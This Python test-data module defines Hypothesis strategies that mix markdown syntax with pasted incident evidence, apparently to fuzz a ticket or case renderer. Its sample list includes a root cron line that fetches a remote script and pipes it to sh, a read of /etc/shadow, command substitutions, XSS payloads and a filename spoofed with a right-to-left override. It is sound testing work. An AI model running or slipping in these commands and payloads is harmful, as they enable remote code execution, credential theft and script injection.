"""An alphabet of incidents: what people paste into cases and issues, whole and in pieces."""

from __future__ import annotations

from hypothesis import strategies as st

# fmt: off
EVIDENCE = [
    "arn:aws:s3:::*_prod_*", "arn:aws:iam::*:role/*_admin_*", "arn:aws:iam::123456789012:user/__svc__",
    '{"Action": "*", "Resource": "*"}', '{"StringLike": {"aws:userid": "*:*"}}', '  "Effect": "Allow",', '"s3:Get*"',
    "C:\\Windows\\Temp\\*.exe", "\\\\FS01\\share\\*.docx", "C:\\Users\\<username>\\AppData\\[Vendor]\\app.exe",
    "HKLM\\Software\\Microsoft\\*\\Run", "\\*", "C\\_x", "a\\|b", "%TEMP%\\~$x.doc", "\\\\?\\C:\\",
    "^\\[ERROR\\] user=\\*(.*?)\\* \\<script\\>$", "(?:a|b)*+", "[^\\]]+", ".*", "\\d{3}\\.\\d", "s/_x_/*y*/g",
    "* * * * * root curl -s http://198.51.100.7/x.sh | sh", "*/5 * * * * /tmp/m", "0 3 * * 1-5 backup", "@reboot x",
    "* 1 * * * cmd", '- Effect = "Deny"', '+ Effect = "Allow"', "@@ -1,3 +1,4 @@", "--- a/main.tf", "+++ b/main.tf",
    "# cat /etc/shadow", "$ ls -la", ">>> import os", "PS C:\\> whoami", "root:$6$abc:19000:0:99999:7:::", "> ls",
    "KEY=***REDACTED***", "x=`whoami`", "`n`r`t", 'Write-Host "He said `"hi`""', "echo `id`", "SELECT `id`=1 FROM `u`",
    "def f(*args, **kwargs):", "(**kwargs)", "2**10", "2 ** 3", "a**b**c", "__init__.py", "svc_soc_bot", "_admin_",
    "**/secret**", "**/*.js", "**.exe**", "**src/**", "*.pem", "*admin*", "** ERROR **", "foo/**/bar", "**bold**",
    "2026-11-27T00:11:22.123Z ERROR [main] x.y.Z - a=1 b=\"2\"", "[INFO] ***", "::1", "10.0.0.0/8",
    "<script>alert(1)</script>",
    "https://x.example/a_b_(c)?d=*&e=[f]", "hxxps://evil[.]com/**", "http://198.51.100.7/x.sh", "[text](https://a.example)",
    "[x](y)", "[a](javascript:alert(1))", "![i](https://a.example/i.png)", "<https://a.example>", "&amp; &#42; &nbsp;",
    "~~gone~~", "~~~~~~~~", "=======", "-------", "***", "___", "- - -", "* * *", "+---+---+", "| a | b |", "|---|---|",
    "| a\\|b | c |", "a | b", "--- | ---", "1. one", "2. two", "3) three", "2024. year", "- item", "* star", "+ plus",
    "  - nested", "    indented: yaml", "- name: x", "\tmake:", "```", "```python", "~~~", "`code`", "``a`b``",
    "[!NOTE]",
    "> [!NOTE]", "> quoted", ">", "> > twice", "## Heading", "# single", "###### six", "####### seven", "[ ] box",
    "- [x] done", "مرحبا **بكم** x", "שלום", "\u202egnp.exe", "e\u0301", "日本**語**です", "👩‍💻", "a\u00a0b", "\u200b",
    "user@host:~$ ", "°", "…", "“**quoted**”", "<br>", "x^2", "H_2O", "\x1b[31mred\x1b[0m", "\x00", "\ud800",
]
_SIGNS = [*"*_`[]()<>#|\\~-+=:.!?'\"{}/@$%^&;,", "**", "``", "***", "__", "](https://a.example)", "](",
          "- ", "> ", "## "]
_WORDS = ["a", "b", "word", "snake_case", "x1", "é", "日本", "7"]
_BLANKS = [" ", " ", " ", "  ", "\t", "\n", "\n", "\n\n", "\n  ", "\r\n", "\n\n\n", " \n"]
# fmt: on

_pieces = st.one_of(st.sampled_from(EVIDENCE), st.sampled_from(_SIGNS), st.sampled_from(_WORDS))
_loose = st.lists(st.one_of(_pieces, st.sampled_from(_BLANKS)), max_size=24).map("".join)
_lines = st.lists(
    st.one_of(
        st.sampled_from(EVIDENCE),
        st.builds("{} {}".format, st.sampled_from(EVIDENCE), _pieces),
        st.just(""),
        st.just(""),
        st.lists(_pieces, max_size=6).map(" ".join),
    ),
    max_size=12,
).map("\n".join)

texts = st.one_of(_lines, _lines, _loose, st.text(max_size=40))
one_line = st.lists(st.one_of(_pieces, st.sampled_from([" ", "  "])), min_size=1, max_size=8).map("".join)
